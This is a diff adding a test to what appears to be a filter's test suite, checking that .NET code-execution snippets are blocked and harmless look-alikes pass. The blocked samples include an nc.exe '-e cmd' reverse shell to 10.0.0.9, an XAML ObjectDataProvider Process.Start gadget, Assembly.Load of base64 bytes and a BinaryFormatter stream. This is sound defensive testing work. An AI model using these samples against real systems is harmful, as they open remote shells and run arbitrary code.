@@ -1049,3 +1049,24 @@ def test_form_controls_in_a_markdown_fence_are_code(edge):
                                       '</form>'),
                          fence.format('<div id="w"></div>\n<script src="https://cdn.example.com'
                                       '/w.js"></script>')])
+
+
+def test_dotnet_running_a_command_or_loading_code(edge):
+    """.NET's ways from a string to a process or to code: Process.Start and
+    ProcessStartInfo given a command's text (C#, Razor's "@{...}",
+    PowerShell's static call), XAML's ObjectDataProvider calling Start on
+    a Process, Assembly.Load of decoded bytes, a BinaryFormatter stream in
+    base64. A snippet that passes a variable or an object initializer, an
+    ObjectDataProvider bound to a repository's method, and the class named
+    in a sentence run nothing."""
+    check_blocked(edge, ['@{ System.Diagnostics.Process.Start("bash", "-c id"); }',
+                         "[Diagnostics.Process]::Start('notepad')",
+                         'new ProcessStartInfo(@"C:\\tools\\nc.exe", "-e cmd 10.0.0.9 80")',
+                         '<ObjectDataProvider MethodName="Start" ObjectType="{x:Type d:Process}"/>',
+                         "Assembly.Load(Convert.FromBase64String(blob)).EntryPoint",
+                         "AAEAAAD/////AQAAAAAAAAAEAQAAAA=="])
+    check_passes(edge, ["var run = Process.Start(info); run.WaitForExit();",
+                        'Process.Start(new ProcessStartInfo { FileName = "dotnet" })',
+                        '<ObjectDataProvider x:Key="items" MethodName="ListAll"/>',
+                        "System.Diagnostics.Process is how .NET starts other programs.",
+                        "var lib = Assembly.LoadFrom(path);"])
